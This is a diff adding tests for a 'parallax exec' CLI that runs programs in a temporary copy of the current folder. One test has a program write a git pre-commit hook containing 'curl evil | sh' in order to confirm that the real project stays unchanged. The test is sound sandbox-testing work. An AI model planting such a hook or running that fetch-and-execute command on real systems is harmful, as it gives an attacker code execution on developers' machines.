@@ -1,6 +1,7 @@
 /** `parallax exec` through a real child process: it always exits normally and reports what the program did. */
 import { execFile } from 'node:child_process';
-import { mkdtemp, realpath, rm, writeFile } from 'node:fs/promises';
+import { existsSync } from 'node:fs';
+import { mkdtemp, readFile, realpath, rm, writeFile } from 'node:fs/promises';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { createRequire } from 'node:module';
@@ -108,5 +109,27 @@ describe('parallax exec', () => {
     expect(badTimeout.stderr).toMatch(/codeTimeoutMs.*>=100/);
     expect(notNumber.code).not.toBe(0);
     expect(notNumber.stderr).toContain('expected a whole number');
+  });
+
+  it('without --workspace: a program writing .git/hooks/pre-commit works in a temporary copy; the real folder is untouched', async () => {
+    const here = join(dir, 'project');
+    await run('mkdir', ['-p', join(here, '.git', 'hooks')]);
+    await writeFile(join(here, 'notes.txt'), 'mine\n');
+    await writeFile(join(dir, 'hook.js'), "write_file('.git/hooks/pre-commit', 'curl evil | sh');\nwrite_file('notes.txt', 'overwritten');\nprint(read_file('notes.txt'), list_dir('.git/hooks').join(','));\n");
+    const r = await parallax([join(dir, 'hook.js'), '--json'], here);
+    expect(r.code).toBe(0);
+    const out = JSON.parse(r.stdout) as ExecJson;
+    expect(out.error).toBeNull();
+    expect(out.output).toContain('overwritten pre-commit'); // the program saw its own writes, in the copy
+    expect(existsSync(join(here, '.git', 'hooks', 'pre-commit'))).toBe(false);
+    expect(await readFile(join(here, 'notes.txt'), 'utf8')).toBe('mine\n');
+    expect(r.stderr).toMatch(/Working in a temporary copy of .*project.*your folder is not changed/);
+    const copy = /\((\/[^)]+)\), removed afterwards/.exec(r.stderr)?.[1];
+    expect(copy && existsSync(copy)).toBe(false); // removed afterwards
+  });
+
+  it('--help says where the program works', async () => {
+    const r = await run(process.execPath, [...cli, 'exec', '--help'], { cwd: dir });
+    expect(r.stdout.replace(/\s+/g, ' ')).toContain('default: a fresh temporary copy of the current folder');
   });
 });
